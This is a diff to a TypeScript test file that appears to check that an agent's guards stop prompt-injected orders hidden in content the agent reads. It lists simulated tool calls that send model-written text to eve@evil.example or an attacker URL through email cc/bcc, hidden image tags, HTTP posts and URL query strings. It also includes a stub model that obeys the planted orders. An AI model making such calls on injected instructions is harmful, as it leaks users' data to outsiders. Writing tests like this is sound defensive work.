@@ -11,7 +11,11 @@ import { INJECTION_FORMS, type Order, orderIn } from "./injection-forms.ts";
 import { READING_TOOLS } from "./reading-tools.ts";
 
 /** Word for word in the sandbox's corpus, so that no guard stops it but the one that is tested. */
-const QUOTE = "Ada Lovelace worked with Charles Babbage on the description of his Analytical Engine.";
+const FACT = "Ada Lovelace worked with Charles Babbage on the description of his Analytical Engine.";
+/** States no fact, so that no run has to search for one. */
+const NO_FACT = "Please read it again and tell me what you would change.";
+/** Holds what the model writes: the fact in the first form and after research, as each is searched for. */
+let modelText: string;
 const EVIL = "eve@evil.example";
 
 const agent = startedForFile(startConnectedAgent);
@@ -41,10 +45,10 @@ const mail = (more: object) => ({
   credential_id: agent.mailId,
   to: ["ada@example.com"],
   subject: "News",
-  text: QUOTE,
+  text: modelText,
   ...more,
 });
-const chat = (channel: string) => ({ channel, text: QUOTE });
+const chat = (channel: string) => ({ channel, text: modelText });
 
 /** The calls that the model makes of orders, each sent to where its order says. */
 const CHOSEN: readonly Write[] = [
@@ -52,7 +56,7 @@ const CHOSEN: readonly Write[] = [
   ["email_send", "cc", () => EVIL, (to) => mail({ cc: [to] })],
   ["email_send", "bcc", () => EVIL, (to) => mail({ bcc: [to] })],
   ["email_send", "reply_to", () => EVIL, (to) => mail({ reply_to: to })],
-  ["email_send", "html", evilUrl, (to) => mail({ html: `<p>${QUOTE}</p><img src="${to}">` })],
+  ["email_send", "html", evilUrl, (to) => mail({ html: `<p>${modelText}</p><img src="${to}">` })],
   ["chatapp_post_channel", "channel", () => "C0RANDOM", chat],
   [
     "chatapp_post_channel",
@@ -60,7 +64,7 @@ const CHOSEN: readonly Write[] = [
     () => "U0GRACE",
     (to) => ({ channel: "#general", text: `<@${to}>`, allow_mentions: true }),
   ],
-  ["chatapp_dm", "to", () => "grace@example.com", (to) => ({ to, text: QUOTE })],
+  ["chatapp_dm", "to", () => "grace@example.com", (to) => ({ to, text: modelText })],
   [
     "calendar_create_event",
     "attendees",
@@ -82,7 +86,7 @@ const CHOSEN: readonly Write[] = [
       summary: "Talk",
       start: "2026-12-01T10:00:00Z",
       end: "2026-12-01T11:00:00Z",
-      description: `<p><a href="${url}">${QUOTE}</a></p>`,
+      description: `<p><a href="${url}">${modelText}</a></p>`,
     }),
   ],
   [
@@ -90,17 +94,17 @@ const CHOSEN: readonly Write[] = [
     "contacts.properties",
     evilUrl,
     (url) => ({
-      contacts: [{ email: "ada@example.com", properties: { notes: `${QUOTE}<img src="${url}">` } }],
+      contacts: [{ email: "ada@example.com", properties: { notes: `${modelText}<img src="${url}">` } }],
     }),
   ],
   [
     "tracker_create_issue",
     "description",
     evilUrl,
-    (url) => ({ team_id: "ENG", title: QUOTE, description: `<img src="${url}">` }),
+    (url) => ({ team_id: "ENG", title: modelText, description: `<img src="${url}">` }),
   ],
-  ["http_post_json", "url", evilUrl, (url) => ({ url, body: QUOTE })],
-  ["http_post_json", "feed", () => feedUrl(), (url) => ({ url, body: QUOTE })],
+  ["http_post_json", "url", evilUrl, (url) => ({ url, body: modelText })],
+  ["http_post_json", "feed", () => feedUrl(), (url) => ({ url, body: modelText })],
   ["rss_subscribe", "url", evilUrl, (url) => ({ url })],
   ["rss_subscribe", "deliver_to", evilUrl, (to) => ({ url: feedUrl(), keywords: ["x"], deliver_to: to })],
   [
@@ -110,18 +114,18 @@ const CHOSEN: readonly Write[] = [
     (to) => ({ credential_id: agent.mailId, query: "x", deliver_to: to }),
   ],
   // A stranger's address may be read, but not with words of the model's own.
-  ["feed_read", "url", evilUrl, (url) => ({ url: `${url}?d=${encodeURIComponent(QUOTE)}` })],
+  ["feed_read", "url", evilUrl, (url) => ({ url: `${url}?d=${encodeURIComponent(modelText)}` })],
   [
     "tracker_create_issue",
     "new",
     () => "issue",
-    () => ({ team_id: "ENG", title: QUOTE, description: QUOTE }),
+    () => ({ team_id: "ENG", title: modelText, description: modelText }),
   ],
   [
     "notes_create_page",
     "new",
     () => "note",
-    () => ({ parent: { database_id: sampleTasksDatabaseId }, title: QUOTE, content: QUOTE }),
+    () => ({ parent: { database_id: sampleTasksDatabaseId }, title: modelText, content: modelText }),
   ],
   [
     "crm_upsert_contact",
@@ -130,13 +134,13 @@ const CHOSEN: readonly Write[] = [
     () => ({ contacts: [{ email: EVIL, properties: { firstname: "Eve" } }] }),
   ],
   ["watch_stop", "thing", () => "watch", () => ({ watch_id: "6f1c5f0e-3f5c-4a53-9d4f-2b8f0c1f7a10" })],
-  ["social_post:microblog", "account", () => "microblog", () => ({ text: QUOTE })],
-  ["social_post:network", "account", () => "network", () => ({ text: QUOTE })],
+  ["social_post:microblog", "account", () => "microblog", () => ({ text: modelText })],
+  ["social_post:network", "account", () => "network", () => ({ text: modelText })],
   [
     "email_reply",
     "cc",
     () => EVIL,
-    (to) => ({ credential_id: agent.mailId, in_reply_to: "<1@mail.example>", text: QUOTE, cc: [to] }),
+    (to) => ({ credential_id: agent.mailId, in_reply_to: "<1@mail.example>", text: modelText, cc: [to] }),
   ],
 ];
 
@@ -166,7 +170,7 @@ function obeying(reading: TurnCall, order: Order): Behaviour {
   return (request) => {
     const steps = stepsTaken(request);
     if (steps === 0) return { calls: [reading] };
-    if (steps > 1) return { text: QUOTE };
+    if (steps > 1) return { text: modelText };
     const read = request.messages.filter(({ role }) => role === "tool");
     const found = everythingTold({ ...request, messages: read })
       .map(orderIn)
@@ -190,6 +194,7 @@ describe.each(INJECTION_FORMS)("an order in the form of %s", (form, writeForm) =
     const reader = READING_TOOLS[(place + at) % READING_TOOLS.length];
     if (!reader) return expect.fail("There is no reading tool.");
     const order = { tool, argument, destination: destination() };
+    modelText = place === 0 || reader.name === "grounded_research" ? FACT : NO_FACT;
     agent.clear();
     const reading = JSON.stringify(await reader.plant(agent, writeForm(order)));
     agent.behave(obeying({ name: reader.name, arguments: reading }, order));
